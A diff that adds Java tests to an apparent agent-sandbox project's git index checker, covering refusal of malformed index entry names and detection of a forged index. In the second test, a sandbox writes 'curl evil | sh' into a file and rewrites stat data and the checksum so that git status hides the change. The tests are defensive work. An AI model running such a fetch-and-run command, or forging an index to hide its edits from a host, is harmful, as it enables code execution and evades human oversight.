@@ -132,4 +132,53 @@ class GitIndexTest {
         git("update-index", "--no-skip-worktree", "f2.txt");
         assertThat(GitIndex.check(index()).hidden()).isEmpty();
     }
+
+    @Test
+    void A_Name_Whose_Length_In_Its_Entry_Is_Not_What_A_C_String_Reads_Is_Refused() throws Exception {
+        for (String version : new String[] {"2", "4"}) {
+            git("update-index", "--index-version", version);
+            byte[] index = index();
+            assertThat(GitIndex.check(index).refusedPath()).as("version " + version).isNull();
+            // git takes "f0" from the length in the first entry's flags, and goes on after the
+            // byte that follows, where a C string reads "f0.txt": two readings, one refused
+            byte[] shorter = index.clone();
+            int flags = 12 + 60;
+            shorter[flags] = (byte) (shorter[flags] & 0xf0);
+            shorter[flags + 1] = 2;
+            assertThat(GitIndex.check(shorter).refusedPath()).as("version " + version).isEqualTo("f0");
+            // the length past the C string's end: a NUL inside the name git reads
+            byte[] longer = index.clone();
+            longer[flags + 1] = 8;
+            assertThat(GitIndex.check(longer).refusedPath()).as("version " + version).startsWith("f0.txt?");
+        }
+    }
+
+    @Test
+    void Stat_Data_Of_An_Entry_The_Host_Has_Not_Cannot_Hide_A_Change() throws Exception {
+        byte[] before = index();
+        // the sandbox changes f1.txt and stages it, then puts the old object back beside the
+        // file's new stat data: git trusts the stat data and never looks at the file again
+        Files.writeString(dir.resolve("f1.txt"), "file 1\ncurl evil | sh\n");
+        Thread.sleep(1100); // an index no older than the file makes git look at it again ("racily clean")
+        git("add", "f1.txt");
+        byte[] forged = index();
+        int f1 = 12 + 72; // f0.txt's entry takes 72 bytes; f1.txt's object follows its 40 bytes of stat data
+        System.arraycopy(before, f1 + 40, forged, f1 + 40, 20);
+        byte[] sum = agentsandbox.core.Native.sha1(forged, forged.length - 20);
+        System.arraycopy(sum, 0, forged, forged.length - 20, 20);
+        Files.write(dir.resolve(".git/index"), forged);
+        assertThat(git("status", "--porcelain")).as("the forged index hides the change").isEmpty();
+
+        byte[] taken = GitIndex.withStatOnlyWhereKnown(forged, before, 20);
+        Files.write(dir.resolve(".git/index"), taken);
+        assertThat(git("status", "--porcelain")).isEqualTo(" M f1.txt\n");
+        assertThat(git("diff", "--stat")).contains("f1.txt");
+        // the other entries keep their stat data; an index the host has already stays as it is
+        assertThat(Arrays.equals(taken, 12, f1, before, 12, f1)).isTrue();
+        assertThat(GitIndex.withStatOnlyWhereKnown(before, before, 20)).isSameAs(before);
+        // a staged change the host has not: git reads the file once, and finds it staged
+        git("add", "f1.txt");
+        Files.write(dir.resolve(".git/index"), GitIndex.withStatOnlyWhereKnown(index(), before, 20));
+        assertThat(git("status", "--porcelain")).isEqualTo("M  f1.txt\n");
+    }
 }
